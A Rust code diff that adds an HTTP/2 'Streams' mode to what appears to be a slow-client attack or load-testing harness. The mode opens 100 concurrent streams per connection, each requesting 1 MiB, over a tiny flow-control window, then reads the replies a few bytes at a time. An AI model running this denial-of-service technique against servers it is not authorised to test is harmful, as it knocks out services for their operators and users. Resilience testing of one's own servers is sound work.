@@ -15,6 +15,7 @@ use tokio::sync::Semaphore;
 
 use crate::{
     client::HOST,
+    frames::{self, END_HEADERS, END_STREAM, HEADERS, frame},
     load::{Client, Connection, get},
 };
 
@@ -27,6 +28,8 @@ pub enum Kind {
     Body,
     /// An answer of 1 MiB of which it takes a few bytes now and then.
     Read,
+    /// As many such answers at once as HTTP/2 allows, on each connection.
+    Streams,
 }
 
 /// How many attackers there are.
@@ -77,6 +80,7 @@ pub async fn attackers(
 ) -> Result<()> {
     let client = match kind {
         Kind::Read => client.clone().window(4096),
+        Kind::Streams => client.clone().window(4096).alpn("h2"),
         Kind::Head | Kind::Body => client.clone(),
     };
     let (client, gate) = (Rc::new(client), Rc::new(Semaphore::new(AT_ONCE)));
@@ -119,6 +123,12 @@ async fn be_slow(mut connection: Connection, kind: Kind) -> Result<()> {
             "few bytes",
         ),
         Kind::Read => (get("/bytes/1048576"), ""),
+        Kind::Streams => {
+            let ask = frames::get(HOST, "/bytes/1048576");
+            let flags = END_HEADERS | END_STREAM;
+            let asks = (0..100).flat_map(|n| frame(HEADERS, flags, 2 * n + 1, &ask));
+            (frames::preface().into_iter().chain(asks).collect(), "")
+        }
     };
     connection.send(&start).await?;
     loop {
@@ -130,7 +140,7 @@ async fn be_slow(mut connection: Connection, kind: Kind) -> Result<()> {
                 }
                 connection.send(more.as_bytes()).await?;
             }
-            Kind::Read => {
+            Kind::Read | Kind::Streams => {
                 tokio::time::sleep(PAUSE).await;
                 ensure!(connection.sip(16).await? > 0, "closed");
             }
